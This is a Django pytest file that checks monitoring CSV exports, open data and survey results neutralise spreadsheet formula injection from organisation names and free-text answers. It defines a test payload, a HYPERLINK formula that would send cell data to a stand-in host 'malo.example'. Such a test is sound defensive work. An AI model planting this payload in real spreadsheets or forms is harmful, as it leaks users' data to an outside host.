"""Formula injection: text someone typed (an organisation's name, a follow-up's free answer) that
reaches an export of monitoring or the open data is never a live formula in a spreadsheet, and the
open data keeps its header."""

import csv
import io

import pytest

from apps.agenda.models import Event
from apps.agenda.services import event_transition
from apps.monitoring import dashboards as dash
from apps.monitoring import links
from apps.monitoring.models import Audience, Invitation
from tests.agenda.factories import EventFactory
from tests.factories import org
from tests.monitoring.followup_helpers import confirmed_event

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://malo.example/?x="&A1,"ver")'


def _cells(response) -> list[list[str]]:
    text = b"".join(response.streaming_content if response.streaming else [response.content]).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def _live(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@") and not cell[1:2].isdigit()]


def test_a_provider_named_like_a_formula_reaches_the_exports_as_text(client, carla):
    provider = org("ANM")
    provider.name = EVIL
    provider.save(update_fields=["name"])
    EventFactory(status=Event.Status.DONE, providers=["ANM"])
    rows = _cells(client.get("/seguimiento/datos-abiertos/indicadores.csv"))
    assert rows[0] == dash.open_data_columns()
    assert "'" + EVIL in {cell for row in rows for cell in row} and not _live(rows)
    client.force_login(carla)
    rows = _cells(client.get("/seguimiento/exportar/", {"table": "breakdown", "indicator": "joint_missions",
                                                         "by": "provider", "format": "csv"}))
    assert "'" + EVIL in {cell for row in rows for cell in row} and not _live(rows)


def test_a_free_text_answer_like_a_formula_reaches_the_coordinators_export_as_text(client, carla):
    event = confirmed_event()
    event_transition(user=carla, event=event, action="complete")
    inv = Invitation.objects.get(event=event, audience=Audience.TERRITORY, email="laura@fusagasuga.gov.co")
    answer = {"T01": "4", "T02": "5", "T03": "3", "T04": "4", "T05": "5", "T06": "No", "T07": "No", "T08": EVIL}
    assert client.post(links.invitation_path(inv), answer).status_code == 200
    client.force_login(carla)
    slug = inv.template.survey.slug
    response = client.get(f"/encuestas/{slug}/resultados.csv", {"unit": "submission"})
    assert response.status_code == 200
    assert not _live(_cells(response))
    # The public pages and the open data carry no free text at all.
    client.logout()
    assert EVIL not in client.get("/seguimiento/resumen/").content.decode()
    assert "malo.example" not in client.get("/seguimiento/datos-abiertos/indicadores.csv").content.decode()
